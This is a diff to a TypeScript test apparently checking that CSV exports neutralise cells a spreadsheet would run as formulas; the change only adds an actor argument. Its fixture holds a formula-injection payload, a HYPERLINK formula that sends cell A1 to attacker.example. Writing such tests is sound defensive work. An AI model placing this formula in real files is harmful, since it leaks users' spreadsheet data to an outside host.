@@ -147,6 +147,7 @@ t.test('csv: a cell that a spreadsheet would run as a formula is neutralised', a
   const hostile = '=HYPERLINK("https://attacker.example/?leak="&A1,"Ihar")'
   const source = await new SourcesService(database).create(
     validateDto(CreateSourceDto, { title: 'A hostile page', kind: 'other', content: `The list names ${hostile} among the freed.` }, 'body'),
+    { actor: 'test' },
   )
   const cited = (quote: string) => [{ sourceId: source.id, quote }]
   const written = await new PrisonersService(database).create(
